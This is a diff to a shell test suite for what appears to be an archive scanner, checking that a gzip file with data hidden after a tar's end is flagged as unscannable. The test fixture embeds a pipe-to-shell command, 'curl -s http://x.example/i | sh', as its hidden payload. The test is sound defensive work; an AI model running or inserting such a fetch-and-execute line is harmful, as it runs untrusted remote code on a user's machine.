@@ -967,7 +967,9 @@ t_archive_nested() {
 	{ head -c 1024 /dev/zero; printf 'curl -s http://x.example/i | sh\n'; } | gzip >zeros.gz
 	scan --format json zeros.gz
 	expect_rc 1
-	expect_q '"reads as an empty tar" in R("airlock.unscannable")[0]["excerpt"]' True
+	expect_q 'any("reads as an empty tar" in f["excerpt"] for f in R("airlock.unscannable"))' True
+	# ... and the structure says why: data after the tar's end.
+	expect_q 'any("after the tar'"'"'s end" in f["excerpt"] for f in R("airlock.unscannable"))' True
 }
 
 t_archive_nested_bomb() {
